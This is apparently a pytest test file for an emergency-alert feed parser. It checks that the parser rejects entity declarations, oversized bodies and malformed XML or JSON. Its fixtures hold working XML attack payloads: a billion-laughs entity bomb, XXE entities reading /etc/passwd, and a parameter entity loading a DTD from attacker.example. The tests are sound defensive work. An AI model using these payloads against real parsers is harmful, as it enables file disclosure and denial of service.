import time

import pytest

from perisai.crisis.feeds import FeedError, parse_area_upload, parse_feed
from perisai.crisis.feeds.cap import CapParser

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""

GDACS_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss xmlns:gdacs="http://www.gdacs.org"><channel><item><title>&xxe;</title></item></channel></rss>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, GDACS_XXE])
def test_entity_declarations_are_refused(payload: bytes) -> None:
    with pytest.raises(FeedError, match="XML entity declarations are not allowed"):
        parse_feed(payload)


def test_kml_upload_with_entities_is_refused() -> None:
    kml = BILLION_LAUGHS.replace(b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">', b"<kml>").replace(
        b"</alert>", b"</kml>"
    )
    with pytest.raises(FeedError, match="XML entity declarations are not allowed"):
        parse_area_upload(kml, "zone.kml")


class SpyParser(CapParser):
    calls = 0

    def sniff(self, data: bytes) -> bool:
        SpyParser.calls += 1
        return True


def test_hundred_megabyte_body_is_refused_before_parsing() -> None:
    body = b"<" + b" " * (100 * 1024 * 1024)
    started = time.perf_counter()
    with pytest.raises(FeedError, match="feed larger than 10 MB limit"):
        parse_feed(body, [SpyParser()])
    assert SpyParser.calls == 0
    assert time.perf_counter() - started < 1.0
    with pytest.raises(FeedError, match="area file larger than 10 MB limit"):
        parse_area_upload(body, "zone.kml")


def test_size_limit_is_configurable() -> None:
    with pytest.raises(FeedError, match="feed larger than 512 KB limit"):
        parse_feed(b"{" + b" " * (600 * 1024), max_bytes=512 * 1024)


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"", "feed is empty"),
        (b"   \n ", "feed is empty"),
        ('{"data": []}', "feed must be bytes, got str"),
        (b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>', "malformed XML"),
        (b'{"type": "FeatureCollection", "metadata": {"url": "earthquake.usgs.gov"}, ', "malformed JSON"),
        (b'{"type": "FeatureCollection", "mag": NaN, "place": 1}', "JSON value NaN is not allowed"),
        (b'{"type": "Feature", "mag": 1, "place": "x", "id": ' + b"9" * 5000 + b"}", "malformed JSON"),
        (b'{"mag": 1, "place": "x", "a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "malformed JSON"),
        (b'{"mag": 1, "place": "\xff\xfe\xfa"}', "malformed JSON"),
        (
            b'<?xml version="1.0" encoding="x-klingon"?>'
            b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>',
            "malformed XML",
        ),
    ],
)
def test_malformed_payloads(payload: bytes, message: str) -> None:
    with pytest.raises(FeedError, match=message.replace("(", r"\(")):
        parse_feed(payload)


def test_deeply_nested_xml_is_handled() -> None:
    depth = 200_000
    body = (
        b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
        + b"<a>" * depth
        + b"</a>" * depth
        + b"</alert>"
    )
    with pytest.raises(FeedError, match="missing required element <identifier>"):
        parse_feed(body)
